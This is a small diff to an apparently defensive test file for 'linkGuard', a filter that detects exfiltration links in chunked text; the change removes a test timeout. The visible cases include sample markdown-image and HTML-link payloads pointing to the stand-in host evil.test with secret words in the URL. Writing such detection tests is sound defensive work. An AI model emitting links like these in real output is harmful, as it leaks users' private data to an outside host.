@@ -252,7 +252,7 @@ describe.each(hosts)('linkGuard in %s', (host) => {
   });
 });
 
-describe('linkGuard with any chunk boundaries', { timeout: 120_000 }, () => {
+describe('linkGuard with any chunk boundaries', () => {
   const cases = [
     { text: 'So ![x](https://evil.test/p?d=secretwords) there', value: 'evil.test/p?d=secretwords' },
     { text: 'So <a href="//evil.test/secret words">x</a>', value: 'evil.test/secret words' },
